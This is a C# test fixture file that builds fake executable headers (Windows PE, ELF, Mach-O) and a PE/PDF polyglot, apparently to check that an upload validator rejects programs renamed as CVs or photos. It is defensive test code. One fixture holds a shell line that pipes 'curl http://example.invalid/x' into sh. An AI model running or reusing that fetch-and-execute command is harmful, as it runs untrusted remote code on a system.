using System.Text;

namespace ThammJobs.Testing.Files;

/// <summary>Headers of programs, as they would arrive renamed to cv.pdf or photo.jpg.</summary>
public static class ExecutableFixtures
{
    /// <summary>A DOS/PE stub: "MZ", the DOS message, e_lfanew pointing at a "PE\0\0" signature and a COFF header for x86-64.</summary>
    public static byte[] WindowsPe()
    {
        var pe = new byte[512];
        pe[0] = (byte)'M';
        pe[1] = (byte)'Z';
        Encoding.ASCII.GetBytes("This program cannot be run in DOS mode.\r\r\n$").CopyTo(pe, 0x4E);
        BitConverter.TryWriteBytes(pe.AsSpan(0x3C), 0x80);
        "PE\0\0"u8.CopyTo(pe.AsSpan(0x80));
        BitConverter.TryWriteBytes(pe.AsSpan(0x84), (ushort)0x8664);
        return pe;
    }

    /// <summary>A 64-bit little-endian ELF header for x86-64.</summary>
    public static byte[] Elf()
    {
        var elf = new byte[256];
        elf[0] = 0x7F;
        "ELF"u8.CopyTo(elf.AsSpan(1));
        elf[4] = 2; // 64-bit
        elf[5] = 1; // little-endian
        elf[6] = 1; // version
        elf[16] = 2; // executable
        elf[18] = 0x3E; // x86-64
        return elf;
    }

    /// <summary>A 64-bit Mach-O header (as written on disk by little-endian Macs).</summary>
    public static byte[] MachO()
    {
        var macho = new byte[256];
        new byte[] { 0xCF, 0xFA, 0xED, 0xFE }.CopyTo(macho, 0);
        return macho;
    }

    /// <summary>A shell script with an interpreter line.</summary>
    public static byte[] ShellScript() => Encoding.ASCII.GetBytes("#!/bin/sh\ncurl http://example.invalid/x | sh\n");

    /// <summary>A PE whose stub also contains "%PDF-" within its first 1024 bytes (a polyglot): still an executable.</summary>
    public static byte[] PeWithPdfHeader()
    {
        byte[] pe = WindowsPe();
        "%PDF-1.7"u8.CopyTo(pe.AsSpan(0x100));
        return [.. pe, .. PdfFixtures.Valid()];
    }
}
